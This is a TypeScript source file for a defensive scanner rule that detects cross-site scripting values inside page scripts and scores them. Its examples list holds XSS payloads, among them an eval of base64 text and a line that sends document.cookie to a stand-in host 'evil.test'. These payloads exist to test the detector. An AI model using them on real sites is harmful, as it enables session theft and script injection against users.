import { charClass } from '../../text/char-class.ts';
import { endOf, kindAt, type ScriptTokens, startOf } from '../../tokenise/script.ts';
import type { Match, ValueRule } from '../rule.ts';
import type { Subject } from '../subject.ts';
import type { ScriptEvidence } from './script-evidence.ts';
import { mayHoldScript } from './script-hint.ts';
import { type ScriptPieces, scriptPieces, strongestScript } from './script-pieces.ts';
import { scriptWords } from './script-words.ts';

/** Script without any markup, for values that land inside a script of the page. */
export const scriptCall: ValueRule = {
  id: 'xss.script-call',
  category: 'xss',
  cwe: 'CWE-79',
  severity: 'high',
  score: 85,
  message: 'is script that opens a dialog, runs a string or gives data of the page away',
  trigger: { literals: [scriptWords] },
  judge: judgeScriptCall,
  examples: [
    'alert(document.domain)',
    'x=1;confirm`1`',
    "eval(atob('YWxlcnQoMSk='))",
    "[].constructor.constructor('alert(1)')()",
    "location='//evil.test/?'+document.cookie",
    'onerror=alert;throw 1',
    '[7].map(prompt)',
    'setTimeout("go()",5)',
  ],
  lookalikes: [
    'The `alert()` function shows a dialog, `confirm` asks a question (yes or no).',
    'Please confirm (or cancel) by 5; see prompt(s) below.',
    'Use `document.cookie` to read cookies; see the function(s) in chapter 3.',
    "const response = await fetch('https://api.example.org/items');",
    'print("Hello, world!")',
    'setTimeout(() => setCount(count + 1), 1000)',
  ],
};

function judgeScriptCall(subject: Subject): Match | undefined {
  if ((subject.classes & callClasses) === 0) return undefined;
  if (!subject.tokens(mayHoldScript)) return undefined;
  const pieces = subject.tokens(scriptPieces);
  const { tokens } = pieces;
  if (!tokens.isComplete) subject.incomplete('tokens');
  const evidence = strongestScript(pieces, 0, subject.text.length);
  if (evidence.strength < 2) return undefined;
  return matchOf(tokens, evidence, scoreOf(pieces, evidence));
}

/** Some character that a call or an assignment needs. */
const callClasses = charClass.paren | charClass.backtick | charClass.equals;

function scoreOf(pieces: ScriptPieces, evidence: ScriptEvidence): number {
  const prose = pieces.isProse;
  if (evidence.strength === 4) return prose ? 80 : 92;
  if (evidence.strength === 3) return prose ? 60 : 82;
  if (prose) return 30;
  return isWholeText(pieces.tokens, evidence) ? 60 : 40;
}

/** The piece is all that the text holds, but for punctuation. */
function isWholeText(tokens: ScriptTokens, evidence: ScriptEvidence): boolean {
  for (let i = 0; i < evidence.first; i++) {
    if (i > 8 || kindAt(tokens, i) <= 32) return false;
  }
  return tokens.count - evidence.last <= 8;
}

/** Offsets of a piece of script. */
export function matchOf(tokens: ScriptTokens, evidence: ScriptEvidence, score: number): Match {
  const start = startOf(tokens, evidence.first);
  return { start, end: Math.max(start, endOf(tokens, evidence.last - 1)), score };
}
